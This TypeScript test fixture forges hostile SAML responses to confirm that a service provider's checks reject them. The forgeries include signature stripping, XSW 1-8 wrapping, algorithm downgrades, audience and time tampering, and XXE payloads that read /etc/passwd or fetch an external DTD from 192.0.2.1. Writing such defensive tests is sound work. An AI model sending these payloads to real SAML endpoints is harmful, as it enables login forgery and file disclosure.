/** What an attacker sends to the assertion consumer service, and by which of our checks it is refused. */
import { SignedXml } from 'xml-crypto';
import type { TestKeys } from './saml-keys.js';
import {
  assertionXml,
  audience,
  enveloped,
  exclusive,
  instant,
  responseXml,
  signed,
  signedResponse,
  ssoUrl,
  type Said,
} from './saml-responses.js';

/** What the attacker works with. */
export interface Material {
  /** A statement of the identity provider, for the login that was begun, save what is given. */
  readonly say: (more?: Partial<Said>) => Said;
  readonly keys: TestKeys;
  readonly otherKeys: TestKeys;
  readonly now: number;
}

export interface Attack {
  readonly name: string;
  readonly forge: (material: Material) => string;
  /** As the audit has it. */
  readonly detail: string;
}

const declaration = 'a declaration, a comment or a CDATA section';
const noKey = 'no key of the identity provider made the signature';
const xs = 'http://www.w3.org/2000/09/xmldsig#';

const good = ({ say, keys }: Material, more: Partial<Said> = {}) => signedResponse(say(more), keys);
const changed =
  (from: string | RegExp, to: string) =>
  (material: Material): string => {
    const before = good(material);
    const after = before.replace(from, to);
    if (after === before) throw new Error(`nothing to change: ${String(from)}`);
    return after;
  };
const saying =
  (more: Partial<Said> | ((material: Material) => Partial<Said>)) =>
  (material: Material): string =>
    good(material, typeof more === 'function' ? more(material) : more);

/** Parts of a good response, to be put together otherwise. */
function parts(material: Material) {
  const it = material.say({ name: 'bob' });
  const assertion =
    /<saml:Assertion [^]*<\/saml:Assertion>/.exec(signed(assertionXml(it), it.assertionId, material.keys))?.[0] ?? '';
  const signature = /<ds:Signature[^]*<\/ds:Signature>/.exec(assertion)?.[0] ?? '';
  const evil = assertionXml(material.say({ name: 'ann' }));
  return { it, assertion, signature, bare: assertion.replace(signature, ''), evil };
}

const withSignature = (evil: string, signature: string) => evil.replace('</saml:Issuer>', `</saml:Issuer>${signature}`);

function hmac({ say, keys }: Material): string {
  const it = say();
  const signer = new SignedXml({
    privateKey: keys.certificate,
    signatureAlgorithm: `${xs}hmac-sha1`,
    canonicalizationAlgorithm: exclusive,
  });
  signer.enableHMAC();
  signer.addReference({
    xpath: `//*[@ID='${it.responseId}']`,
    transforms: [enveloped, exclusive],
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
  });
  signer.computeSignature(responseXml(it), {
    location: { reference: `/*/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return signer.getSignedXml();
}

const signatures: readonly Attack[] = [
  { name: 'no signature', forge: ({ say }) => responseXml(say()), detail: 'nothing is signed' },
  {
    name: 'the signature of the response stripped',
    forge: changed(/<ds:Signature[^]*?<\/ds:Signature>/, ''),
    detail: 'the response is not signed',
  },
  {
    name: 'only the response signed',
    forge: ({ say, keys }) => {
      const it = say();
      return signed(responseXml(it), it.responseId, keys);
    },
    detail: 'the assertion is not signed',
  },
  {
    name: 'an empty signature',
    forge: changed(/<ds:SignatureValue>[^<]*/, '<ds:SignatureValue>'),
    detail: 'the signature is empty',
  },
  {
    name: 'a signature by another key, whose certificate is enclosed',
    forge: ({ say, otherKeys }) => signedResponse(say(), otherKeys),
    detail: noKey,
  },
  { name: 'an HMAC with the public key', forge: hmac, detail: 'the SignatureMethod is not allowed' },
  {
    name: 'a signature with SHA-1',
    forge: ({ say, keys }) => signedResponse(say(), keys, { signatureAlgorithm: `${xs}rsa-sha1` }),
    detail: 'the SignatureMethod is not allowed',
  },
  {
    name: 'a digest with SHA-1',
    forge: ({ say, keys }) => signedResponse(say(), keys, { digestAlgorithm: `${xs}sha1` }),
    detail: 'the DigestMethod is not allowed',
  },
  {
    name: 'a signature with MD5',
    forge: changed(
      'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
      'http://www.w3.org/2001/04/xmldsig-more#rsa-md5',
    ),
    detail: 'the SignatureMethod is not allowed',
  },
  {
    name: 'inclusive canonicalisation',
    forge: ({ say, keys }) =>
      signedResponse(say(), keys, { canonicalization: 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315' }),
    detail: 'the CanonicalizationMethod is not allowed',
  },
  {
    name: 'two SignedInfo',
    forge: changed(/(<ds:SignedInfo>[^]*?<\/ds:SignedInfo>)/, '$1$1'),
    detail: 'several SignedInfo elements in Signature',
  },
  {
    name: 'two references',
    forge: changed(/(<ds:Reference [^]*?<\/ds:Reference>)/, '$1$1'),
    detail: 'the signature has not exactly one reference',
  },
  {
    name: 'no reference',
    forge: changed(/<ds:Reference [^]*?<\/ds:Reference>/, ''),
    detail: 'the signature has not exactly one reference',
  },
  {
    name: 'a reference to the whole document',
    forge: changed(/URI="#_r\d+"/, 'URI=""'),
    detail: 'the signature is of something else',
  },
  {
    name: 'a reference to another element',
    forge: changed(/URI="#_r(\d+)"/, 'URI="#_a$1"'),
    detail: 'the signature is of something else',
  },
  {
    name: 'a comment in the digest',
    forge: changed('<ds:DigestValue>', '<ds:DigestValue><!-- -->'),
    detail: declaration,
  },
  {
    name: 'two digests',
    forge: changed(/(<ds:DigestValue>[^<]*<\/ds:DigestValue>)/, '$1$1'),
    detail: noKey,
  },
  {
    name: 'an XPath transform',
    forge: changed(enveloped, 'http://www.w3.org/TR/1999/REC-xpath-19991116'),
    detail: 'the signature has other transforms',
  },
  {
    name: 'an XSLT transform',
    forge: changed(
      '</ds:Transforms>',
      '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/></ds:Transforms>',
    ),
    detail: 'the signature has other transforms',
  },
  {
    name: 'an object in the signature',
    forge: changed('</ds:Signature>', '<ds:Object/></ds:Signature>'),
    detail: 'the signature holds something else',
  },
  { name: 'another name after signing', forge: changed('>ann<', '>bob<'), detail: noKey },
  {
    name: 'another attribute after signing',
    forge: changed('Ann of SAML', 'Somebody else'),
    detail: noKey,
  },
];

/** XSW 1 to 8: Somorovsky and others, On Breaking SAML, 2012. The signed assertion is bob's, the other one ann's. */
const wrapped: readonly Attack[] = [
  {
    name: 'wrapping 1: the signed response in the signature of another',
    forge: (material) => {
      const { it, evil } = parts(material);
      const original = signed(responseXml(it), it.responseId, material.keys);
      const signature = /<ds:Signature[^]*<\/ds:Signature>/.exec(original)?.[0] ?? '';
      const inside = signature.replace('</ds:Signature>', `${original.replace(signature, '')}</ds:Signature>`);
      return withSignature(responseXml(material.say(), evil), inside);
    },
    detail: 'several assertions',
  },
  {
    name: 'wrapping 2: the signed response beside its signature',
    forge: (material) => {
      const { it, evil } = parts(material);
      const original = signed(responseXml(it), it.responseId, material.keys);
      const signature = /<ds:Signature[^]*<\/ds:Signature>/.exec(original)?.[0] ?? '';
      return withSignature(responseXml(material.say(), evil), original.replace(signature, '') + signature);
    },
    detail: 'several assertions',
  },
  {
    name: 'wrapping 3: another assertion before the signed one',
    forge: (material) => {
      const { it, assertion, evil } = parts(material);
      return responseXml(it, evil + assertion);
    },
    detail: 'several assertions',
  },
  {
    name: 'wrapping 4: the signed assertion in another one',
    forge: (material) => {
      const { it, assertion, evil } = parts(material);
      return responseXml(it, evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`));
    },
    detail: 'several assertions',
  },
  {
    name: 'wrapping 5: the signature in another assertion, the signed one behind it',
    forge: (material) => {
      const { it, bare, signature, evil } = parts(material);
      return responseXml(it, withSignature(evil, signature) + bare);
    },
    detail: 'several assertions',
  },
  {
    name: 'wrapping 6: the signed assertion in the signature in another one',
    forge: (material) => {
      const { it, bare, signature, evil } = parts(material);
      return responseXml(it, withSignature(evil, signature.replace('</ds:Signature>', `${bare}</ds:Signature>`)));
    },
    detail: 'several assertions',
  },
  {
    name: 'wrapping 7: another assertion in Extensions',
    forge: (material) => {
      const { it, assertion, evil } = parts(material);
      return responseXml({ ...it, extensions: `<samlp:Extensions>${evil}</samlp:Extensions>` }, assertion);
    },
    detail: 'several assertions',
  },
  {
    name: 'wrapping 8: the signed assertion in an Object of the signature',
    forge: (material) => {
      const { it, bare, signature, evil } = parts(material);
      const inside = `<ds:Object>${bare}</ds:Object></ds:Signature>`;
      return responseXml(it, withSignature(evil, signature.replace('</ds:Signature>', inside)));
    },
    detail: 'several assertions',
  },
  {
    name: 'the signed assertion in the Advice of another one',
    forge: (material) => {
      const { it, assertion } = parts(material);
      const advice = `<saml:Advice>${assertion}</saml:Advice>`;
      return responseXml(it, assertionXml(material.say({ name: 'ann', advice })));
    },
    detail: 'several assertions',
  },
  {
    name: 'the signed assertion in StatusDetail',
    forge: (material) => {
      const { it, assertion, evil } = parts(material);
      return responseXml({ ...it, statusDetail: `<samlp:StatusDetail>${assertion}</samlp:StatusDetail>` }, evil);
    },
    detail: 'several assertions',
  },
  {
    name: 'the only assertion in Extensions',
    forge: (material) => {
      const { it, assertion } = parts(material);
      return responseXml({ ...it, extensions: `<samlp:Extensions>${assertion}</samlp:Extensions>` }, '');
    },
    detail: 'the assertion is at the wrong place',
  },
  {
    name: 'an assertion of another namespace',
    forge: (material) => {
      const { it, assertion } = parts(material);
      return responseXml(
        it,
        assertion.replace('xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"', 'xmlns:saml="urn:x"'),
      );
    },
    detail: 'the assertion is at the wrong place',
  },
  {
    name: 'a response in the response',
    forge: (material) => {
      const { it, assertion } = parts(material);
      return responseXml({ ...it, extensions: '<samlp:Extensions><samlp:Response/></samlp:Extensions>' }, assertion);
    },
    detail: 'several responses',
  },
  {
    name: 'a signature in Extensions',
    forge: (material) => {
      const { it, assertion, signature } = parts(material);
      return responseXml({ ...it, extensions: `<samlp:Extensions>${signature}</samlp:Extensions>` }, assertion);
    },
    detail: 'a signature at the wrong place',
  },
  {
    name: 'the same ID twice',
    forge: (material) => {
      const { it, assertion } = parts(material);
      return responseXml(
        { ...it, extensions: `<samlp:Extensions><x ID="${it.assertionId}"/></samlp:Extensions>` },
        assertion,
      );
    },
    detail: 'an ID is not unique',
  },
  {
    name: 'the same ID in a lower-case attribute',
    forge: (material) => {
      const { it, assertion } = parts(material);
      return responseXml(
        { ...it, extensions: `<samlp:Extensions><x id="${it.assertionId}"/></samlp:Extensions>` },
        assertion,
      );
    },
    detail: 'an ID is not unique',
  },
  { name: 'several roots', forge: (material) => good(material) + good(material), detail: 'several root elements' },
];

const restriction = (...audiences: readonly string[]) =>
  `<saml:AudienceRestriction>${audiences.map((one) => `<saml:Audience>${one}</saml:Audience>`).join('')}</saml:AudienceRestriction>`;
const confirmation = 'urn:oasis:names:tc:SAML:2.0:cm:';
const otherAudience = 'the assertion is for another audience';
const hour = 3_600_000;

const statements: readonly Attack[] = [
  {
    name: 'another audience',
    forge: saying({ audiences: restriction('https://other.example.com') }),
    detail: otherAudience,
  },
  {
    name: 'a prefix of the audience',
    forge: saying({ audiences: restriction(audience.slice(0, -1)) }),
    detail: otherAudience,
  },
  {
    name: 'an audience with a suffix',
    forge: saying({ audiences: restriction(`${audience}/x`) }),
    detail: otherAudience,
  },
  {
    name: 'the audience in upper case',
    forge: saying({ audiences: restriction(audience.toUpperCase()) }),
    detail: otherAudience,
  },
  {
    name: 'a second restriction to another audience',
    forge: saying({ audiences: restriction(audience) + restriction('https://other.example.com') }),
    detail: otherAudience,
  },
  { name: 'no audience', forge: saying({ audiences: '' }), detail: 'the assertion has no audience' },
  {
    name: 'an unknown condition',
    forge: saying({ audiences: `${restriction(audience)}<saml:Condition/>` }),
    detail: 'an unknown condition',
  },
  {
    name: 'another Recipient',
    forge: saying({ recipient: 'https://other.example.com/saml/SSO' }),
    detail: 'the Recipient is not this server',
  },
  {
    name: 'another Destination',
    forge: saying({ destination: 'https://other.example.com/saml/SSO' }),
    detail: 'the Destination is not this server',
  },
  {
    name: 'a Destination that begins like ours',
    forge: saying({ destination: `${ssoUrl}.example.com` }),
    detail: 'the Destination is not this server',
  },
  {
    name: 'another Issuer of the response',
    forge: saying({ issuer: 'https://other.example.com' }),
    detail: 'the Issuer is not the identity provider',
  },
  {
    name: 'another Issuer of the assertion',
    forge: saying({ assertionIssuer: 'https://other.example.com' }),
    detail: 'the Issuer of the assertion is not the identity provider',
  },
  {
    name: 'a status other than Success',
    forge: saying({ status: 'urn:oasis:names:tc:SAML:2.0:status:Responder' }),
    detail: 'the status is not Success',
  },
  { name: 'version 1.1', forge: saying({ version: '1.1' }), detail: 'the version is not 2.0' },
  {
    name: 'version 1.1 of the assertion',
    forge: saying({ assertionVersion: '1.1' }),
    detail: 'the version of the assertion is not 2.0',
  },
  {
    name: 'a response of another namespace',
    forge: saying({ protocol: 'urn:oasis:names:tc:SAML:1.0:protocol' }),
    detail: 'not a response of SAML 2.0',
  },
  {
    name: 'holder of key',
    forge: saying({ method: `${confirmation}holder-of-key` }),
    detail: 'the subject is confirmed by another method',
  },
  {
    name: 'sender vouches',
    forge: saying({ method: `${confirmation}sender-vouches` }),
    detail: 'the subject is confirmed by another method',
  },
  {
    name: 'no confirmation',
    forge: ({ say, keys }) => {
      const it = say();
      const bare = assertionXml(it).replace(/<saml:SubjectConfirmation [^]*<\/saml:SubjectConfirmation>/, '');
      return signed(signed(responseXml(it, bare), it.assertionId, keys), it.responseId, keys);
    },
    detail: 'the subject is not confirmed',
  },
  {
    name: 'no AuthnStatement',
    forge: saying({ authnStatement: '' }),
    detail: 'the assertion says nothing of an authentication',
  },
  {
    name: 'a session there that is over',
    forge: saying(({ now }) => ({
      authnStatement: `<saml:AuthnStatement AuthnInstant="${instant(now - hour)}" SessionNotOnOrAfter="${instant(now - hour / 2)}"/>`,
    })),
    detail: 'the session there is over',
  },
  {
    name: 'an authentication in the future',
    forge: saying(({ now }) => ({ authnStatement: `<saml:AuthnStatement AuthnInstant="${instant(now + hour)}"/>` })),
    detail: 'the authentication is in the future',
  },
  {
    name: 'an authentication without a time',
    forge: saying({ authnStatement: '<saml:AuthnStatement/>' }),
    detail: 'the authentication has no time',
  },
  {
    name: 'an authentication that is too long ago',
    forge: saying(({ now }) => ({
      authnStatement: `<saml:AuthnStatement AuthnInstant="${instant(now - 2 * hour)}"/>`,
    })),
    detail: 'the authentication is too long ago',
  },
  {
    name: 'conditions that are over',
    forge: saying(({ now }) => ({ notOnOrAfter: instant(now - 31_000) })),
    detail: 'the conditions are over',
  },
  {
    name: 'conditions that are not yet valid',
    forge: saying(({ now }) => ({ notBefore: instant(now + 31_000) })),
    detail: 'the conditions are not yet valid',
  },
  {
    name: 'a confirmation that is over',
    forge: saying(({ now }) => ({ confirmedUntil: instant(now - 31_000) })),
    detail: 'the confirmation is over',
  },
  { name: 'a date that is none', forge: saying({ notOnOrAfter: 'tomorrow' }), detail: 'NotOnOrAfter is no moment' },
  {
    name: 'a day that the month does not have',
    forge: saying({ notOnOrAfter: '2030-02-30T00:00:00Z' }),
    detail: 'NotOnOrAfter is no moment',
  },
  { name: 'an empty date', forge: saying({ confirmedUntil: '' }), detail: 'NotOnOrAfter is no moment' },
  {
    name: 'no request that it answers',
    forge: saying({ confirmationInResponseTo: '' }),
    detail: 'the assertion answers no request',
  },
  {
    name: 'an assertion for another request than the response',
    forge: saying({ confirmationInResponseTo: ' InResponseTo="_other"' }),
    detail: 'the response and its assertion answer different requests',
  },
];

const names: readonly Attack[] = [
  { name: 'a comment in the name', forge: saying({ name: 'an<!-- -->n' }), detail: declaration },
  { name: 'a CDATA section in the name', forge: saying({ name: '<![CDATA[ann]]>' }), detail: declaration },
  {
    name: 'a processing instruction in the name',
    forge: saying({ name: '<?p evil-?>ann' }),
    detail: 'a processing instruction',
  },
  {
    name: 'a zero-width character in the name',
    forge: saying({ name: 'an\u200Bn' }),
    detail: 'the name id has characters that cannot be seen',
  },
  {
    name: 'an escaped zero-width character',
    forge: saying({ name: 'an&#x200B;n' }),
    detail: 'the name id has characters that cannot be seen',
  },
  {
    name: 'a turn of direction in the name',
    forge: saying({ name: '\u202Enna' }),
    detail: 'the name id has characters that cannot be seen',
  },
  { name: 'an element in the name', forge: saying({ name: 'an<x/>n' }), detail: 'NameID has elements in it' },
  { name: 'an empty name', forge: saying({ name: '' }), detail: 'the name id is empty' },
  {
    name: 'a transient name',
    forge: saying({ nameFormat: 'urn:oasis:names:tc:SAML:2.0:nameid-format:transient' }),
    detail: 'the name id is transient, so it names nobody the next time',
  },
  {
    name: 'an attribute twice',
    forge: saying({
      attributes:
        '<saml:Attribute Name="Email"/><saml:Attribute Name="Email"><saml:AttributeValue>x@y</saml:AttributeValue></saml:Attribute>',
    }),
    detail: 'an attribute is there twice',
  },
];

const doctype = (content: string) => (material: Material) => `<!DOCTYPE samlp:Response ${content}>${good(material)}`;

const documents: readonly Attack[] = [
  { name: 'an external entity', forge: doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]'), detail: declaration },
  {
    name: 'a parameter entity',
    forge: doctype('[<!ENTITY % x SYSTEM "http://192.0.2.1/x"> %x;]'),
    detail: declaration,
  },
  { name: 'an external DTD', forge: doctype('SYSTEM "http://192.0.2.1/x.dtd"'), detail: declaration },
  {
    name: 'a bomb of entities',
    forge: doctype('[<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]'),
    detail: declaration,
  },
  { name: 'a DOCTYPE alone', forge: doctype(''), detail: declaration },
  {
    name: 'an entity that nobody has declared',
    forge: ({ say }) => responseXml(say({ extensions: '<samlp:Extensions>&#x41;&x;</samlp:Extensions>' })),
    detail: 'an unknown entity',
  },
  {
    name: 'XInclude',
    forge: saying({
      extensions:
        '<samlp:Extensions><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></samlp:Extensions>',
    }),
    detail: 'XInclude',
  },
  {
    name: 'elements nested too deep',
    forge: ({ say }) => responseXml(say({ extensions: '<x>'.repeat(32) + '</x>'.repeat(32) })),
    detail: 'the message is nested too deep',
  },
  {
    name: 'a thousand declarations of namespaces',
    forge: ({ say }) => {
      const declarations = Array.from({ length: 1000 }, (_, at) => `xmlns:n${at}="urn:n"`).join(' ');
      return responseXml(say({ extensions: `<x ${declarations}/>` }));
    },
    detail: 'too many attributes',
  },
  {
    name: 'a message that is too large',
    forge: ({ say }) => responseXml(say({ extensions: 'x'.repeat(256 * 1024) })),
    detail: 'the message is too large',
  },
  {
    name: 'an attribute twice in an element',
    forge: changed('<saml:Issuer>', '<saml:Issuer a="1" a="2">'),
    detail: 'an attribute is repeated',
  },
  { name: 'no XML', forge: () => 'SAMLResponse', detail: 'not XML' },
  { name: 'a request', forge: changed(/samlp:Response/g, 'samlp:AuthnRequest'), detail: 'not a response of SAML 2.0' },
];

export const attacks: readonly Attack[] = [...signatures, ...wrapped, ...statements, ...names, ...documents];

/** What no check of ours must be in the way of. */
export const allowed: readonly Pick<Attack, 'name' | 'forge'>[] = [
  { name: 'an XML declaration', forge: (material) => `<?xml version="1.0" encoding="UTF-8"?>\n${good(material)}` },
  { name: 'a clock that is 29 seconds ahead', forge: saying(({ now }) => ({ notBefore: instant(now + 29_000) })) },
  {
    name: 'several audiences, ours among them',
    forge: saying({ audiences: restriction('https://x.example.com', audience) }),
  },
  { name: 'names around which there is space', forge: saying({ name: '\n  ann\n ' }) },
];
